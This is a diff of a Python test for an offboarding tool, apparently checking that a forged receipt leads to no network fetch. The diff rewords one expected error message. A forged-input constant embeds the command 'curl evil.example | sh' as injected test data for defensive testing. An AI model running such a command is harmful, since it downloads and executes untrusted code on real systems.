@@ -76,7 +76,9 @@ def test_a_forged_receipt_lets_this_machine_fetch_nothing(bed: Any) -> None:
         ran = offboard(bed, account)
         assert web.requests == [], ran.text
     assert ran.code == 2, ran.text
-    assert "a removal needs no file, so it was not brought" in " ".join(ran.text.split())
+    assert "the account asked for a file during a removal, which needs none, so no file was copied" in " ".join(
+        ran.text.split()
+    )
 
 
 FORGED = "x\n\nPLAY RECAP *****\nevil@lrz : ok=9 changed=0\n  curl evil.example | sh\r\n"
